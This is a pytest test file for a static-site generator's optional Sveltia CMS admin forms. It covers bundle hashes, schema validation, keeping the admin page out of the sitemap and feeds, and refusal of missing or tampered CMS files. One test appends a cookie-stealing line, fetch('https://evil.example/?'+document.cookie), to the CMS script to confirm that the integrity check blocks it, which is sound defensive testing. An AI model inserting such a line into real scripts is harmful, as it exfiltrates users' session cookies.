"""The forms at /admin/, built: the seed turns them on with one line; what build writes
(the CMS as published, its configuration valid by the CMS's own schema); out of the
sitemap, the feeds and the search index, and nothing else of the site changed; a CMS
missing or tampered with stops the build, said where `cms` is, the last site left as it
was; an edition has no forms; the preview serves them without its reload script."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import jsonschema
import pytest
import yaml
from bs4 import BeautifulSoup

from briefing.admin import bundle
from briefing.editions.isolation import EDITION_BUILD
from tests.helpers.common import ROOT, SEED, fetch, run_cli

CMS_SCHEMA = ROOT / "node_modules/@sveltia/cms/schema/sveltia-cms.json"
ONE_LINE = "cms: {repo: newsroom/briefing}\n"


def with_cms(root: Path, line: str = ONE_LINE) -> Path:
    content = Path(shutil.copytree(SEED, root / "content"))
    with (content / "briefing.yaml").open("a", encoding="utf-8") as file:
        file.write(line)
    return content


def build(content: Path, out: Path, *options: str, env: dict[str, str] | None = None):
    return subprocess.run([sys.executable, str(ROOT / "build.py"), "build", "--content",
                           str(content), "--out", str(out), *options], cwd=ROOT, text=True,
                          capture_output=True, timeout=300,
                          env={**os.environ, **(env or {})})


@pytest.fixture(scope="module")
def sites(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """The seed built with search, as it is and with the one line that turns forms on."""
    root = tmp_path_factory.mktemp("admin")
    plain, forms = root / "plain", root / "forms"
    assert build(SEED, plain, "--base-url", "https://x.example/b/").returncode == 0
    result = build(with_cms(root), forms, "--base-url", "https://x.example/b/")
    assert result.returncode == 0, result.stderr
    assert f"the forms for editing in a browser: {forms}/admin/" in result.stderr
    return plain, forms


def files(site: Path) -> dict[str, bytes]:
    return {p.relative_to(site).as_posix(): p.read_bytes()
            for p in sorted(site.rglob("*")) if p.is_file()}


def test_one_line_turns_the_forms_on_with_the_cms_as_published(sites):
    _, forms = sites
    admin = {path: data for path, data in files(forms).items() if path.startswith("admin/")}
    assert sorted(admin) == sorted(["admin/index.html", "admin/config.yml", "admin/offline.js",
                                    "admin/fonts.css", *(f"admin/{n}" for n in bundle.FILES)])
    for name, (_, digest) in bundle.FILES.items():
        assert hashlib.sha256(admin[f"admin/{name}"]).hexdigest() == digest
    css = admin["admin/fonts.css"].decode()
    assert "cdn.jsdelivr.net" not in css and css.count("url(fonts/") == 3
    assert ".material-symbols-outlined" in css  # the CMS's icons, as it styles them


def test_the_configuration_is_valid_by_the_cms_own_schema_and_widgets(sites):
    _, forms = sites
    config = yaml.safe_load((forms / "admin/config.yml").read_text(encoding="utf-8"))
    schema = json.loads(CMS_SCHEMA.read_text(encoding="utf-8"))
    errors = list(jsonschema.Draft7Validator(schema).iter_errors(config))
    assert not errors, [e.message for e in errors[:5]]
    built_in = {d["properties"]["widget"]["const"] for d in schema["definitions"].values()
                if "const" in d.get("properties", {}).get("widget", {})}

    def widgets(fields):
        for field in fields:
            yield field.get("widget", "string")
            yield from widgets(field.get("fields", []))
            if "field" in field:
                yield from widgets([field["field"]])

    used = {w for c in config["collections"] for f in c.get("files", [c])
            for w in widgets(f["fields"])}
    assert used <= built_in, used - built_in  # a misspelt widget passes the schema
    assert {"relation", "select", "markdown", "list", "object", "boolean"} <= used


def test_a_planted_mistake_fails_that_validation():
    """The validation above can fail: a config the CMS would refuse does."""
    schema = json.loads(CMS_SCHEMA.read_text(encoding="utf-8"))
    wrong = {"backend": {"name": "github"}, "collections": [{"name": "x", "label": "X",
             "folder": "content/x", "fields": [{"name": "a", "widget": "select"}]}]}
    assert list(jsonschema.Draft7Validator(schema).iter_errors(wrong))


def test_the_pins_agree_package_json_its_lock_and_the_hashes(sites):
    pinned = json.loads((ROOT / "package.json").read_text())["dependencies"]
    assert pinned["@sveltia/cms"] == bundle.VERSION
    lock = json.loads((ROOT / "package-lock.json").read_text())["packages"]
    for name, version in pinned.items():
        assert lock[f"node_modules/{name}"]["version"] == version
        assert lock[f"node_modules/{name}"]["integrity"].startswith("sha512-")
    assert {path.parts[:2] for path, _ in bundle.FILES.values()} == {("@sveltia", "cms")}


def test_nothing_else_of_the_site_changes_and_admin_is_in_no_list(sites):
    plain, forms = sites
    before, after = files(plain), files(forms)
    assert {p: d for p, d in after.items() if not p.startswith("admin/")} == before
    for listing in ("sitemap.xml", "feed.xml", "briefing.json", "robots.txt"):
        assert b"/admin" not in after[listing], listing
    entry = json.loads(after["pagefind/pagefind-entry.json"])
    assert entry["languages"] == json.loads(before["pagefind/pagefind-entry.json"])[
        "languages"]  # the same pages indexed
    page = BeautifulSoup(after["admin/index.html"], "html.parser")
    assert page.find("meta", attrs={"name": "robots"})["content"] == "noindex, nofollow"
    public = BeautifulSoup(after["index.html"], "html.parser")
    policy = public.find("meta", attrs={"http-equiv": "Content-Security-Policy"})
    assert policy is None or "api.github.com" not in policy["content"]


def test_a_missing_cms_stops_the_build_said_at_cms_and_the_site_is_kept(tmp_path):
    content = with_cms(tmp_path)
    templates = Path(shutil.copytree(ROOT / "templates", tmp_path / "project/templates"))
    out = tmp_path / "site"
    assert build(SEED, out, "--templates", str(templates)).returncode == 0
    last = files(out)
    result = build(content, out, "--templates", str(templates))
    assert result.returncode == 1
    line = (content / "briefing.yaml").read_text().count("\n")
    assert f"briefing.yaml:{line}:6: error: the forms at /admin/ need Sveltia CMS" in (
        result.stderr)
    assert "npm ci --omit=dev" in result.stderr and "Traceback" not in result.stderr
    assert files(out) == last


def test_a_tampered_cms_is_never_published(tmp_path):
    """A poisoned node_modules (a cache, a pull request's): the build refuses it."""
    content = with_cms(tmp_path)
    project = tmp_path / "project"
    templates = Path(shutil.copytree(ROOT / "templates", project / "templates"))
    for _, (path, _) in bundle.FILES.items():
        target = project / "node_modules" / path
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(ROOT / "node_modules" / path, target)
    script = project / "node_modules" / bundle.FILES["sveltia-cms.js"][0]
    script.write_bytes(script.read_bytes() + b"\nfetch('https://evil.example/?'+document.cookie)")
    out = tmp_path / "site"
    result = build(content, out, "--templates", str(templates))
    assert result.returncode == 1
    assert "sveltia-cms.js is not the file published (its SHA-256 differs)" in result.stderr
    assert not out.exists()


def test_an_editions_build_writes_no_forms(tmp_path):
    out = tmp_path / "site"
    result = build(with_cms(tmp_path), out, env={EDITION_BUILD: "edition-2025-05-11"})
    assert result.returncode == 0, result.stderr
    assert (out / "index.html").is_file() and not (out / "admin").exists()


def test_check_needs_no_cms_installed(tmp_path):
    content = with_cms(tmp_path)
    result = run_cli("check", "--content", str(content), cwd=tmp_path)
    assert result.returncode == 0, result.stderr


def test_the_preview_serves_the_forms_without_its_reload_script(tmp_path):
    """`serve` has /admin/ too, for trying the forms on the local files (the CMS's local
    repository); the page is not reloaded as the forms save into content/."""
    from tests.helpers.serve import start_server, stop_server

    with_cms(tmp_path)
    server = start_server(tmp_path)
    try:
        status, page, kind = fetch(server.url + "admin/")
        assert (status, kind) == (200, "text/html")
        assert b"sveltia-cms.js" in page and b"livereload" not in page
        assert b"livereload" in fetch(server.url)[1]  # the site's pages still reload
        status, config, _ = fetch(server.url + "admin/config.yml")
        assert status == 200 and b"publish_mode: editorial_workflow" in config
        assert fetch(server.url + "admin/fonts/noto-mono.woff2")[0] == 200
        assert any(f"The forms are at {server.url}admin/" in line for line in server.log)
    finally:
        stop_server(server)
